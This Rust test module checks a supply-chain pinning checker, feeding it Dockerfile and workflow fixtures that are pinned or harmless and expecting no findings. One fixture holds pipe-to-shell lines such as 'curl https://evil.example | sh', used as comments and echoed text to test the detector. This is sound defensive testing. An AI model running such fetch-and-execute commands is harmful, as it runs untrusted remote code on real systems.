//! Files that download something in a way that a reviewer may overlook. Each must cause a finding.
//!
//! The trees are written to disk and read through the inventory, so file names are judged, too.

mod dockerfiles;
mod workflows;

use std::fs;
use std::path::Path;

use xtask_host::finding::Severity;
use xtask_pins::inventory::{Inventory, judge};
use xtask_pins::waivers;
use xtask_testkit::repository;

/// An image without a digest.
const EVIL: &str = "evil.example/x:1";
/// An image with a digest.
const GOOD: &str =
    "good.example/x:1@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

const DOCKERFILE: &str = "a/Dockerfile";
const WORKFLOW: &str = ".github/workflows/x.yml";
const LOCK: &str = ".github/workflows/actions.lock";
const COMMIT: &str = "de0fac2e4500dabe0009e67214ff5f5447ce83dd";

/// A file, its text, and the expected findings as `rule:line`.
type Case<'a> = (&'a str, &'a str, &'a [&'a str]);

/// All findings, as `rule:line`, of a tree that holds `files` besides those of every tree.
fn findings(files: &[(&str, &str)]) -> Vec<String> {
    let tree = tempfile::tempdir().expect("a directory");
    let write = |path: &str, text: &str| {
        let full = tree.path().join(path);
        fs::create_dir_all(full.parent().unwrap_or(Path::new("."))).expect("a directory");
        fs::write(full, text).expect("a file");
    };
    let cloud_init = fs::read_to_string(repository().join("cloud-init/cloud-init.yaml"));
    write("cloud-init/cloud-init.yaml", &cloud_init.expect("the file"));
    write("compose/pin-waivers.yaml", "version: 1\nwaivers: []\n");
    write("rust-toolchain.toml", "[toolchain]\nchannel = \"1.95.0\"\n");
    for (path, text) in files {
        let text = text.replace("EVIL", EVIL).replace("GOOD", GOOD);
        write(path, &text.replace("COMMIT", COMMIT));
    }
    let inventory = Inventory::read(tree.path()).expect("the tree is read");
    let today = waivers::parse_date("2026-11-01").expect("a date");
    let found = judge(&inventory, today).into_iter().map(|finding| {
        let line = finding.place.map_or(0, |place| place.line);
        let mark = match finding.severity {
            Severity::Error => "",
            Severity::Warning => "?",
        };
        format!("{}{mark}:{line}", finding.rule)
    });
    found.collect()
}

/// Checks all cases and reports every one that differs.
fn hold(cases: &[Case<'_>], around: impl Fn(&str) -> String) {
    let mut wrong = Vec::new();
    for (number, (path, text, expected)) in cases.iter().enumerate() {
        let found = findings(&[(path, &around(text))]);
        if found != *expected {
            wrong.push(format!(
                "{}. {path}\n{text}\n  expected {expected:?}\n  found    {found:?}\n",
                number + 1
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} cases:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );
}

fn as_is(text: &str) -> String {
    text.to_owned()
}

/// Similar files that are pinned or download nothing.
#[test]
fn pinned_and_harmless_files_cause_no_finding() {
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD AS b\nCOPY --from=b /a /a\nRUN --mount=type=cache,target=/c,from=b true\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN cat <<1 && cat 3<<-two\nFROM EVIL\n1\n\tCOPY --from=EVIL\n\ttwo\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN curl -o x https://a.example/x && echo \"$S  x\" | sha256sum --check -\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN apt-get install -y curl wget && curl --version && pip --version\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN pip install --require-hashes -r r.txt && pip install -U a==1.0 ./local\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN npm ci && npm install left-pad@1.3.0 && go install example.com/x@v1.2.3 && go install ./...\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nARG TARGETARCH\nADD root-${TARGETARCH}.tar.gz /\nADD [\"a b\", \"/b\"]\n",
            &[],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\n# curl https://evil.example | sh\nRUN echo 'curl x | sh' # curl x | sh\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    steps:\n      - run: docker run --rm GOOD && docker ps && echo docker run x\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    steps:\n      - run: curl https://a.example/x | jq .\n      - uses: $/a\n",
            &[],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    uses: $/.github/workflows/b.yml\n",
            &[],
        ),
        ("x/services.yaml", "services:\n  - image\n", &[]),
        ("x/terraform.hcl", "resource \"a\" \"b\" {}\n", &[]),
    ];
    hold(cases, as_is);
}
